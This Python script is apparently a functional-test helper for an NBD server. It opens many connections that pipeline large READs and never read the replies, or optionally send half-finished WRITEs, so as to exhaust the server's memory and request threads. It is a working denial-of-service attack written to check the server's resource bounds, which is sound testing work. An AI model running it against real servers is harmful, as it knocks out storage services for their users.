#!/usr/bin/env python3
"""nbd-flood.py — NBD clients that pipeline large READs and never read the replies.

Usage: nbd-flood.py ADDRESS EXPORT [--connections N] [--requests K] [--length BYTES]
                    [--stall-write]

Opens N connections (UNIX socket path, or 127.0.0.1:PORT), negotiates EXPORT with
NBD_OPT_GO (simple replies: every READ answer carries its whole payload), then sends K
READs of BYTES each at offset 0 on every connection, as fast as the server takes them,
and never reads a reply. The receive buffer is kept small so that the server's replies
back up at once.

Prints "ready" once every connection has sent what the server would take within a few
seconds, then holds the connections open until its standard input is closed (or it is
killed). This is the memory and thread exhaustion attack of a local user against a
server without a server-wide bound (tests/functional/nbd-budget.sh).

--stall-write: instead, each connection sends one WRITE header of BYTES and only half
its payload, then stops (a server whose request threads block reading a payload runs
out of them: tests/functional/nbd-stalled-writers.sh).
"""
import argparse
import select
import socket
import struct
import sys
import time

NBDMAGIC = 0x4E42444D41474943
IHAVEOPT = 0x49484156454F5054
REPMAGIC = 0x3E889045565A9
REQ_MAGIC = 0x25609513
OPT_GO = 7
REP_ACK = 1
CMD_READ = 0
CMD_WRITE = 1


def connect(addr):
    if ":" in addr and not addr.startswith("/"):
        host, port = addr.rsplit(":", 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(20)
        s.connect((host, int(port)))
    else:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(20)
        s.connect(addr)
    return s


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError("server closed the connection in the handshake")
        buf += chunk
    return buf


def handshake(s, name):
    magic, opts, _ = struct.unpack(">QQH", recv_exact(s, 18))
    assert magic == NBDMAGIC and opts == IHAVEOPT, "bad greeting"
    s.sendall(struct.pack(">I", 3))
    n = name.encode()
    data = struct.pack(">I", len(n)) + n + struct.pack(">H", 0)
    s.sendall(struct.pack(">QII", IHAVEOPT, OPT_GO, len(data)) + data)
    while True:
        rmagic, _, rtype, length = struct.unpack(">QIII", recv_exact(s, 20))
        assert rmagic == REPMAGIC, "bad option reply magic"
        recv_exact(s, length)
        if rtype == REP_ACK:
            return
        assert rtype < 2**31, "NBD_OPT_GO failed: %#x" % rtype


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("address")
    ap.add_argument("export")
    ap.add_argument("--connections", type=int, default=20)
    ap.add_argument("--requests", type=int, default=16)
    ap.add_argument("--length", type=int, default=32 * 1024 * 1024)
    ap.add_argument("--stall-write", action="store_true")
    args = ap.parse_args()

    conns = []
    for _ in range(args.connections):
        s = connect(args.address)
        handshake(s, args.export)
        s.setblocking(False)
        conns.append(s)

    # What each connection still has to send: the requests, back to back.
    pending = {}
    for i, s in enumerate(conns):
        if args.stall_write:
            pending[s] = memoryview(struct.pack(">IHHQQI", REQ_MAGIC, 0, CMD_WRITE, i, 0,
                                                args.length) + bytes(args.length // 2))
            continue
        reqs = b"".join(struct.pack(">IHHQQI", REQ_MAGIC, 0, CMD_READ, (i << 32) | k, 0,
                                    args.length) for k in range(args.requests))
        pending[s] = memoryview(reqs)

    # Push until the server stops taking more (it waits for budget or for us to read).
    idle_since = time.monotonic()
    while pending and time.monotonic() - idle_since < 3:
        _, writable, _ = select.select([], list(pending), [], 0.5)
        for s in writable:
            try:
                n = s.send(pending[s])
            except BlockingIOError:
                continue
            except OSError:
                del pending[s]     # the server hung up on this one
                continue
            if n > 0:
                idle_since = time.monotonic()
                pending[s] = pending[s][n:]
                if len(pending[s]) == 0:
                    del pending[s]
    print("ready", flush=True)
    sys.stdin.read()
    for s in conns:
        s.close()


if __name__ == "__main__":
    main()
